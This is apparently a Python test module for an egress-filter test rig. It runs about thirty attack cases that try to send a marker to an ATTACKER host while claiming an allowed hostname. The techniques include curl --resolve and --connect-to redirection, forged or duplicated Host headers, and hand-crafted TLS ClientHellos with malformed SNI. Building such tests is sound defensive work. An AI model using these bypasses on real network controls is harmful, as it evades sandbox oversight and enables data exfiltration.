"""Class 3: names that are only claims."""

from rig.attacks import ATTACKER, Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER, WWW

PLAIN = f"{RESOLVER}:53/udp\nwww.allowed.example:80|443|4444\n"
PASSTHROUGH = f"{RESOLVER}:53/udp\nwww.allowed.example:* passthrough\n"
INSECURE = f"{RESOLVER}:53/udp\nwww.allowed.example:* insecure\n"
WILDCARD = f"{RESOLVER}:53/udp\n*.allowed.example:*\n"
URL = (f"{RESOLVER}:53/udp\nhttp://www.allowed.example/*\n* https://www.allowed.example/*\n")
POLICIES = {"a host rule": PLAIN, "passthrough": PASSTHROUGH, "insecure": INSECURE,
            "a wildcard": WILDCARD, "URL rules": URL}

# A TLS hello written byte by byte: what a library would not send.
HELLO = """
def extension(kind, data): return struct.pack(">HH", kind, len(data)) + data
def sni(*names):
    entries = b"".join(b"\\0" + struct.pack(">H", len(n)) + n for n in names)
    return extension(0, struct.pack(">H", len(entries)) + entries)
def hello(extensions, version=b"\\3\\3", random=None):
    body = version + (random or os.urandom(32)) + b"\\x20" + os.urandom(32) + b"\\0\\2\\x13\\1" + b"\\1\\0" \\
        + struct.pack(">H", len(extensions)) + extensions
    return b"\\x16\\3\\1" + struct.pack(">HB", len(body) + 4, 1) + struct.pack(">I", len(body))[1:] + body
ALLOWED = b"www.allowed.example"
padding = lambda: extension(21, mark)  # where the marker rides
def send(*pieces, port=443):
    s = socket.create_connection((ATTACKER, port)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces: s.sendall(piece); time.sleep(0.01)
    drain(s)
"""


def hello(label, program, policy=PASSTHROUGH, **more):
    return Attack(label, HELLO + program, policy=policy, **more)


RESOLVE = f"--resolve www.allowed.example:443:{ATTACKER} --resolve www.allowed.example:80:{ATTACKER}"
FIRST = "getent hosts www.allowed.example >/dev/null; "  # so that the name is bound, elsewhere

ATTACKS = [
    *[Attack(f"allowed name at a foreign address, {label}",
             f"curl -sSk -m 4 {RESOLVE} https://www.allowed.example/$MARKER", shell=True, policy=policy)
      for label, policy in POLICIES.items()],
    *[Attack(f"forged Host, {label}",
             f"curl -sS -m 4 -H 'Host: www.allowed.example' http://{ATTACKER}/$MARKER", shell=True,
             policy=policy) for label, policy in POLICIES.items()],
    *[Attack(f"allowed name bound elsewhere, {label}",
             f"{FIRST} curl -sSk -m 4 {RESOLVE} https://www.allowed.example/$MARKER", shell=True,
             policy=policy) for label, policy in POLICIES.items()],
    Attack("plain HTTP to a bound name elsewhere",
           f"{FIRST} curl -sS -m 4 {RESOLVE} http://www.allowed.example/$MARKER", shell=True,
           policy=PLAIN),
    Attack("on a port of a host rule", f"{FIRST} curl -sSk -m 4 "
           f"--connect-to ::{ATTACKER}:8443 https://www.allowed.example:8443/$MARKER", shell=True,
           policy=WILDCARD),
    Attack("no server name", f"curl -sSk -m 4 https://{ATTACKER}/$MARKER", shell=True, policy=PASSTHROUGH),
    Attack("server name is an address that is allowed", """
context = ssl._create_unverified_context()
s = context.wrap_socket(socket.create_connection((ATTACKER, 443)), server_hostname="203.0.113.10")
s.sendall(mark); s.recv(10)""", policy=f"{RESOLVER}:53/udp\n{WWW}\n"),
    Attack("absolute-form target", 'http("GET http://www.allowed.example/ HTTP/1.1\\nHost: '
           'www.allowed.example\\nX: " + MARKER + "\\n\\n")', policy=PLAIN),
    Attack("HTTP/1.0 without Host", 'http("GET /" + MARKER + " HTTP/1.0\\n\\n")', policy=PLAIN),
    Attack("HTTP/1.0 with Host", 'http("GET /" + MARKER + " HTTP/1.0\\nHost: www.allowed.example\\n\\n")',
           policy=PLAIN),
    Attack("two Host lines", 'http("GET /" + MARKER + " HTTP/1.1\\nHost: www.allowed.example\\n'
           'Host: www.evil.example\\n\\n")', policy=PLAIN),
    Attack("CONNECT", 'http("CONNECT www.allowed.example:80 HTTP/1.1\\nHost: www.allowed.example\\n'
           'X: " + MARKER + "\\n\\n")', policy=PLAIN),
    Attack("Host with a port", 'http("GET /" + MARKER + " HTTP/1.1\\nHost: www.allowed.example:80\\n\\n")',
           policy=PLAIN),
    Attack("Host with a user", 'http("GET /" + MARKER + " HTTP/1.1\\n'
           'Host: www.allowed.example@www.evil.example\\n\\n")', policy=PLAIN),
    hello("hello at a foreign address", "send(hello(sni(ALLOWED) + padding()))"),
    hello("hello byte by byte", "send(*[bytes([b]) for b in hello(sni(ALLOWED) + padding())])"),
    hello("hello in two records", """
h = hello(sni(ALLOWED) + padding()); body = h[5:]
send(b"\\x16\\3\\1" + struct.pack(">H", 40) + body[:40] + b"\\x16\\3\\1" + struct.pack(">H", len(body) - 40)
     + body[40:])"""),
    hello("two server names", "send(hello(sni(ALLOWED, b'www.evil.example') + padding()))"),
    hello("two server name extensions", "send(hello(sni(ALLOWED) + sni(b'www.evil.example') + padding()))"),
    hello("server name with a NUL", "send(hello(sni(ALLOWED + b'\\0.evil.example') + padding()))"),
    hello("server name with a final dot", "send(hello(sni(ALLOWED + b'.') + padding()))"),
    hello("server name in upper case", "send(hello(sni(ALLOWED.upper()) + padding()))"),
    hello("empty server name", "send(hello(sni(b'') + padding()))"),
    hello("no extensions", "send(hello(b'', random=mark + b'x' * 12))"),
    hello("encrypted hello", "send(hello(sni(ALLOWED) + extension(0xfe0d, b'\\0' + mark * 4) + padding()))"),
    hello("truncated hello", "send(hello(sni(ALLOWED) + padding() + extension(21, b'xxx'))[:-3])"),
    hello("SSL 2 hello", "send(b'\\x80\\x40\\1\\3\\1\\0\\3\\0\\0\\0\\x20\\0\\0\\4' + mark + b'x' * 40)"),
    hello("hello to a port for something else", "send(hello(sni(ALLOWED) + padding()), port=4444)"),
    Attack("name allowed, then raw bytes to a foreign address",
           'socket.gethostbyname("www.allowed.example"); tcp(443)', policy=PASSTHROUGH),
    Attack("name allowed, then raw bytes on any port",
           'socket.gethostbyname("www.allowed.example"); tcp(4444)', policy=WILDCARD),
]


@expand
class Claims(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
